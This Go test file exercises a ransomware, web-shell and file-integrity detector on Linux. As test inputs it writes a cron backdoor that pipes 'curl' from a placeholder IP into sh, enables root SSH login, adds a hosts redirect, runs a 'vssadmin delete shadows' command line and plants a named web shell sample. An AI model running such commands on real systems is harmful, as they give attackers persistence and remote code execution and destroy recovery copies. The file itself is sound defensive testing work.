package ransom

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"
)

// detections collects a watcher's detections for a test.
type detections struct {
	mu   sync.Mutex
	list []Detection
	acts []string
}

func (d *detections) add(x Detection, action string) {
	d.mu.Lock()
	d.list = append(d.list, x)
	d.acts = append(d.acts, action)
	d.mu.Unlock()
}

func (d *detections) count() int { d.mu.Lock(); defer d.mu.Unlock(); return len(d.list) }

func (d *detections) first() Detection { d.mu.Lock(); defer d.mu.Unlock(); return d.list[0] }

// needRoot skips tests that need fanotify (root): process attribution, the
// permission gate, killing the simulator.
func needRoot(t *testing.T) {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("needs root for fanotify")
	}
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func runSim(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command(simulator(t), append([]string{"-dir", dir}, args...)...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		cmd.Process.Kill()
		<-done
	}
}

// Without fanotify (no privilege, or forced), inotify still detects, but
// cannot say which process it was; the status says so.
func TestInotifyFallbackDetectsWithoutAttribution(t *testing.T) {
	dir := t.TempDir()
	sums := writeCorpus(t, dir)
	var got detections
	w, err := Start(Config{Dirs: []string{dir}, ForceInotify: true, Respond: RespondKill, OnDetection: got.add})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	st := w.Stats()
	if st.Source != "inotify" || !strings.Contains(st.Note, "not attributed") || st.Gated {
		t.Fatalf("stats %+v: want inotify, a note on attribution, no gate", st)
	}
	sim := exec.Command(simulator(t), "-dir", dir, "-mode", "inplace", "-order", "random", "-delay", "10ms")
	if err := sim.Start(); err != nil {
		t.Fatal(err)
	}
	defer sim.Wait()
	defer sim.Process.Kill()
	waitFor(t, "a detection", func() bool { return got.count() > 0 })
	sim.Process.Kill()
	lost := lostFiles(sums)
	d := got.first()
	if d.Actor.Pid != 0 || d.Score < 2 || len(d.Files) == 0 {
		t.Errorf("detection %+v: want unattributed, over the threshold, with files", d)
	}
	if !strings.HasPrefix(got.acts[0], "none") {
		t.Errorf("action %q: with no pid there is no one to kill", got.acts[0])
	}
	t.Logf("inotify, 100 files/s: detected with score %.1f; %d of %d files lost when the test stopped the simulator", d.Score, lost, len(sums))
	if lost > 20 {
		t.Errorf("%d files lost before an unattributed detection at 100 files/s", lost)
	}
}

// Decoys sit first and last in each watched folder; touching one is a
// detection on its own; deleting one with its folder is not.
func TestDecoys(t *testing.T) {
	needRoot(t)
	dir := t.TempDir()
	for _, sub := range []string{"a", "b/c", "gone"} {
		os.MkdirAll(filepath.Join(dir, sub), 0o755)
		os.WriteFile(filepath.Join(dir, sub, "Báo cáo.txt"), []byte("nội dung\n"), 0o644)
	}
	var got detections
	w, err := Start(Config{Dirs: []string{dir}, OnDetection: got.add})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	decoys := w.Canaries()
	if len(decoys) != 2*6 { // root, a, b, b/c, gone: 5 folders... plus none: see below
		// Every folder gets two decoys: root, a, b, b/c, gone.
		if len(decoys) != 2*5 {
			t.Fatalf("%d decoys placed: %v", len(decoys), decoys)
		}
	}
	for _, d := range decoys {
		if ExpectedKind(d) == KindUnknown {
			t.Errorf("decoy %s has no document extension", d)
		}
		fd, err := Inspect(d, ExpectedKind(d), nil)
		if err != nil || !fd.Digest.Valid {
			t.Errorf("decoy %s is not a valid document: %+v %v", d, fd, err)
		}
		names, _ := os.ReadDir(filepath.Dir(d))
		first, last := names[0].Name(), names[len(names)-1].Name()
		if base := filepath.Base(d); base != first && base != last && !names[0].IsDir() {
			t.Errorf("decoy %s sorts neither first nor last in %v", base, names)
		}
	}
	// A person removes a whole folder: its decoys go with it, no alarm.
	if err := exec.Command("rm", "-rf", filepath.Join(dir, "gone")).Run(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(800 * time.Millisecond)
	if got.count() != 0 {
		t.Fatalf("removing a folder raised %d detections: %+v", got.count(), got.first())
	}
	// Another process appends to a decoy: detection at once, marked as such.
	var target string
	for _, d := range decoys {
		if strings.Contains(d, string(filepath.Separator)+"a"+string(filepath.Separator)) {
			target = d
		}
	}
	if err := exec.Command("sh", "-c", "echo x >> \""+target+"\"").Run(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the decoy detection", func() bool { return got.count() > 0 })
	if d := got.first(); !d.Canary || d.Actor.Pid == 0 || !strings.Contains(strings.Join(d.Reasons, " "), "decoy") {
		t.Errorf("detection %+v: want a decoy detection attributed to the shell", d)
	}
}

// Decoys are recreated when they vanish without a detection (their folder
// emptied and recreated, say), and the watcher keeps watching a folder
// that is deleted and created again.
func TestWatchedFolderDeletedAndRecreated(t *testing.T) {
	needRoot(t)
	parent := t.TempDir()
	dir := filepath.Join(parent, "share")
	writeCorpus(t, dir)
	var got detections
	w, err := Start(Config{Dirs: []string{dir}, Respond: RespondKill, OnDetection: got.add})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the folder reported missing", func() bool { return len(w.Stats().MissingRoots) == 1 })
	sums := writeCorpus(t, dir)
	waitFor(t, "the folder watched again", func() bool {
		st := w.Stats()
		return len(st.MissingRoots) == 0 && st.Watched > 20
	})
	if got.count() != 0 {
		t.Fatalf("deleting and recreating the folder raised %+v", got.first())
	}
	runSim(t, dir, "-mode", "inplace", "-order", "random")
	if got.count() == 0 {
		t.Fatal("no detection in the recreated folder")
	}
	if lost := lostFiles(sums); lost > 10 {
		t.Errorf("%d files lost in the recreated folder", lost)
	}
}

// The watch budget is never exceeded; what is left out is reported.
func TestWatchBudget(t *testing.T) {
	dir := t.TempDir()
	for i := range 30 {
		os.MkdirAll(filepath.Join(dir, fmt.Sprintf("d%02d", i)), 0o755)
	}
	w, err := Start(Config{Dirs: []string{dir}, MaxDirs: 10, NoCanaries: true})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	st := w.Stats()
	if st.Watched != 10 || st.Unwatched != 21 || len(st.UnwatchedEx) == 0 || st.Budget != 10 {
		t.Errorf("stats %+v: want 10 watched, 21 unwatched with examples", st)
	}
	// New folders beyond the budget are counted too.
	os.MkdirAll(filepath.Join(dir, "d00", "new"), 0o755)
	waitFor(t, "the new folder counted", func() bool { return w.Stats().Unwatched == 22 })
}

// A flood of write events (a program rewriting the same files over and
// over) is absorbed by a bounded queue: writes to a file already queued
// are coalesced, the rest dropped and counted, memory stays bounded, and
// nothing is detected.
func TestEventFloodIsBounded(t *testing.T) {
	dir := t.TempDir()
	var files []string
	for i := range 500 {
		p := filepath.Join(dir, fmt.Sprintf("f%03d.txt", i))
		os.WriteFile(p, []byte(strings.Repeat("dòng nhật ký\n", 50)), 0o644)
		files = append(files, p)
	}
	var got detections
	w, err := Start(Config{Dirs: []string{dir}, QueueSize: 256, NoGate: true, OnDetection: got.add, slowAnalysis: 200 * time.Microsecond})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	cmd := exec.Command(officesim(t), append([]string{"-rewrite-rounds", "200"}, files...)...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("flood: %v %s", err, out)
	}
	time.Sleep(500 * time.Millisecond)
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	st := w.Stats()
	t.Logf("%s: %d events, %d coalesced, %d dropped, %d inspected; heap %d → %d MB", strings.TrimSpace(string(out)),
		st.Events, st.Coalesced, st.Dropped, st.Inspected, before.HeapInuse>>20, after.HeapInuse>>20)
	if st.Events < 100_000 {
		t.Errorf("only %d events from 100,000 writes", st.Events)
	}
	if st.Coalesced+st.Dropped == 0 {
		t.Errorf("a flood through a 256-event queue neither coalesced nor dropped anything")
	}
	if after.HeapInuse > before.HeapInuse+64<<20 {
		t.Errorf("heap grew by %d MB under the flood", (after.HeapInuse-before.HeapInuse)>>20)
	}
	if got.count() != 0 {
		t.Errorf("rewriting files with their own content was detected: %+v", got.first())
	}
}

// Files that vanish before they are read are counted, not fatal.
func TestVanishingFilesAreCounted(t *testing.T) {
	dir := t.TempDir()
	for i := 1; i <= 100; i++ {
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.txt", i)), []byte("cũ\n"), 0o644)
	}
	w, err := Start(Config{Dirs: []string{dir}, NoCanaries: true, NoGate: true, slowAnalysis: 5 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := exec.Command("sh", "-c", "cd "+dir+" && for i in $(seq 1 100); do echo x > f$i.txt; rm f$i.txt; done").Run(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the events analysed", func() bool { return w.Stats().Unreadable >= 20 })
	if st := w.Stats(); st.Detections != 0 {
		t.Errorf("vanishing files detected: %+v", st)
	}
}

// A process whose command line deletes shadow copies is detected on its
// own, attributed to the program that started it.
func TestShadowCopyDeletionIsDetected(t *testing.T) {
	var got detections
	w, err := Start(Config{Dirs: []string{t.TempDir()}, NoCanaries: true, OnDetection: got.add})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	cmd := exec.Command("sh", "-c", `sh -c "sleep 2" vssadmin delete shadows /all /quiet; true`)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	waitFor(t, "the shadow-copy detection", func() bool { return got.count() > 0 })
	d := got.first()
	if d.Actor.Pid != cmd.Process.Pid || !strings.Contains(strings.Join(d.Reasons, " "), "vssadmin delete shadows") {
		t.Errorf("detection %+v: want the parent shell %d and the command", d, cmd.Process.Pid)
	}
}

func fanotifyFDs(t *testing.T) int {
	t.Helper()
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, e := range ents {
		if l, _ := os.Readlink("/proc/self/fd/" + e.Name()); strings.Contains(l, "fanotify") {
			n++
		}
	}
	return n
}

// Close releases both kernel groups: a permission mark left behind would
// hold every open on the mount for a reader that is gone.
func TestCloseReleasesTheKernelGroups(t *testing.T) {
	before := fanotifyFDs(t)
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "a.txt"), []byte("một\n"), 0o644)
	w, err := Start(Config{Dirs: []string{dir}, Respond: RespondKill})
	if err != nil {
		t.Fatal(err)
	}
	if !w.Stats().Gated {
		t.Skip("no permission events here")
	}
	// An overwrite makes the shell suspect and arms the gate.
	exec.Command("sh", "-c", "echo hai > "+filepath.Join(dir, "a.txt")).Run()
	waitFor(t, "the overwrite analysed", func() bool { return w.Stats().Inspected > 0 })
	if got := fanotifyFDs(t); got != before+2 {
		t.Fatalf("%d fanotify groups while watching, want %d", got, before+2)
	}
	w.Close()
	if got := fanotifyFDs(t); got != before {
		t.Fatalf("%d fanotify groups left after Close, want %d", got, before)
	}
	if out, err := exec.Command("cat", filepath.Join(dir, "a.txt")).CombinedOutput(); err != nil {
		t.Fatalf("reading after Close: %v %s", err, out)
	}
}

// A web shell written into a web root by another process is reported with
// its traits, hash and writer; an ordinary page next to it is not.
func TestWebshellInWebRoot(t *testing.T) {
	root := filepath.Join(t.TempDir(), "www")
	os.MkdirAll(filepath.Join(root, "wp-content", "uploads"), 0o755)
	os.WriteFile(filepath.Join(root, "index.php"), []byte(benignWeb["wordpress index"]), 0o644)
	var mu sync.Mutex
	var found []WebshellFinding
	w, err := Start(Config{WebRoots: []string{root}, NoCanaries: true, OnWebshell: func(f WebshellFinding) {
		mu.Lock()
		found = append(found, f)
		mu.Unlock()
	}})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	page := filepath.Join(root, "lien-he.php")
	shell := filepath.Join(root, "wp-content", "uploads", "thumb.php")
	// The writer lives on a moment, as a real one does, so that its
	// executable can still be read when the event is.
	if err := exec.Command("sh", "-c", "printf '%s' \"$1\" > "+page+"; printf '%s' \"$2\" > "+shell+"; sleep 1", "sh",
		benignWeb["form handler"], webshells["china chopper"]).Run(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the web shell reported", func() bool { mu.Lock(); defer mu.Unlock(); return len(found) > 0 })
	time.Sleep(200 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	if len(found) != 1 {
		t.Fatalf("%d findings, want only the shell: %+v", len(found), found)
	}
	f := found[0]
	if f.Path != shell || f.Root != root || !f.New || len(f.SHA256) != 64 || f.Score < WebshellThreshold || len(f.Reasons) == 0 {
		t.Errorf("finding %+v", f)
	}
	if os.Getuid() == 0 && (f.Actor.Pid == 0 || !strings.HasSuffix(f.Actor.Exe, "sh")) {
		t.Errorf("finding not attributed to the shell: %+v", f.Actor)
	}
}

// System files are baselined and every change is reported with who made
// it, the hashes before and after, and a diff for text.
func TestFIMReportsSystemFileChanges(t *testing.T) {
	sys := t.TempDir()
	os.MkdirAll(filepath.Join(sys, "cron.d"), 0o755)
	conf := filepath.Join(sys, "sshd_config")
	os.WriteFile(conf, []byte("Port 22\nPermitRootLogin no\nPasswordAuthentication no\n"), 0o644)
	os.WriteFile(filepath.Join(sys, "hosts"), []byte("127.0.0.1 localhost\n"), 0o644)
	os.WriteFile(filepath.Join(sys, "old.conf"), []byte("x=1\n"), 0o644)
	var mu sync.Mutex
	changes := map[string]FIMChange{}
	w, err := Start(Config{SystemPaths: []string{sys}, OnFIMChange: func(c FIMChange) {
		mu.Lock()
		changes[filepath.Base(c.Path)+" "+c.Change] = c
		mu.Unlock()
	}})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	waitFor(t, "the baseline", func() bool { return w.Stats().FIMFiles == 3 })
	if st := w.Stats(); st.Canaries != 0 {
		t.Fatalf("%d decoys placed in system paths", st.Canaries)
	}
	before := w.Stats().GateEvents
	exec.Command("cat", conf, filepath.Join(sys, "hosts")).Run()
	if after := w.Stats().GateEvents; after != before {
		t.Errorf("opens in a system path went through the permission gate (%d → %d): every exec of /usr/bin would", before, after)
	}
	script := "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' " + conf +
		"; echo '10.0.0.5 update.example.invalid' >> " + filepath.Join(sys, "hosts") +
		"; echo '* * * * * root curl -s http://198.51.100.7/x | sh' > " + filepath.Join(sys, "cron.d", "backdoor") +
		"; rm " + filepath.Join(sys, "old.conf") + "; sleep 1"
	if out, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	waitFor(t, "four changes", func() bool { mu.Lock(); defer mu.Unlock(); return len(changes) >= 4 })
	mu.Lock()
	defer mu.Unlock()
	c, ok := changes["sshd_config modified"]
	if !ok || c.Before == "" || c.After == "" || c.Before == c.After ||
		!strings.Contains(c.Diff, "-PermitRootLogin no") || !strings.Contains(c.Diff, "+PermitRootLogin yes") || strings.Contains(c.Diff, "Port 22") {
		t.Errorf("sshd_config change %+v", c)
	}
	if c.Actor.Pid == 0 {
		t.Errorf("change not attributed: %+v", c.Actor)
	}
	if c := changes["hosts modified"]; !strings.Contains(c.Diff, "+10.0.0.5 update.example.invalid") {
		t.Errorf("hosts change %+v", c)
	}
	if c := changes["backdoor created"]; c.After == "" || !strings.Contains(c.Diff, "curl") {
		t.Errorf("cron entry %+v", c)
	}
	if c := changes["old.conf deleted"]; c.Before == "" {
		t.Errorf("deletion %+v", c)
	}
	t.Logf("%d changes: %v", len(changes), func() []string {
		var k []string
		for n := range changes {
			k = append(k, n)
		}
		return k
	}())
}

func TestLineDiff(t *testing.T) {
	got := lineDiff([]byte("a\nb\nc\nd\n"), []byte("a\nB\nc\nd\ne\n"))
	if got != "-b\n+B\n+e" && got != "+B\n-b\n+e" {
		t.Errorf("diff %q", got)
	}
	if d := lineDiff(nil, []byte("x\n")); d != "+x" {
		t.Errorf("diff of a new file %q", d)
	}
}

// A watched folder renamed inside the tree keeps being watched under its
// new name, with either event source.
func TestRenamedFolderIsFollowed(t *testing.T) {
	for _, inotify := range []bool{false, true} {
		dir := t.TempDir()
		os.MkdirAll(filepath.Join(dir, "a", "sub"), 0o755)
		for _, n := range []string{"a/sub/1.txt", "a/sub/2.txt"} {
			os.WriteFile(filepath.Join(dir, n), bytes.Repeat([]byte("Báo cáo tuần.\n"), 500), 0o644)
		}
		var got detections
		w, err := Start(Config{Dirs: []string{dir}, NoCanaries: true, ForceInotify: inotify, OnDetection: got.add})
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(filepath.Join(dir, "a"), filepath.Join(dir, "b")); err != nil {
			t.Fatal(err)
		}
		time.Sleep(200 * time.Millisecond)
		sub := filepath.Join(dir, "b", "sub")
		if err := exec.Command("sh", "-c", "head -c 8192 /dev/urandom > '"+sub+"/1.txt'; head -c 8192 /dev/urandom > '"+sub+"/2.txt'; sleep 1").Run(); err != nil {
			t.Fatal(err)
		}
		waitFor(t, "the detection under the new name", func() bool { return got.count() > 0 })
		for _, f := range got.first().Files {
			if !strings.HasPrefix(f, sub+string(filepath.Separator)) {
				t.Errorf("inotify=%v: file %s reported under its old name", inotify, f)
			}
		}
		w.Close()
	}
}
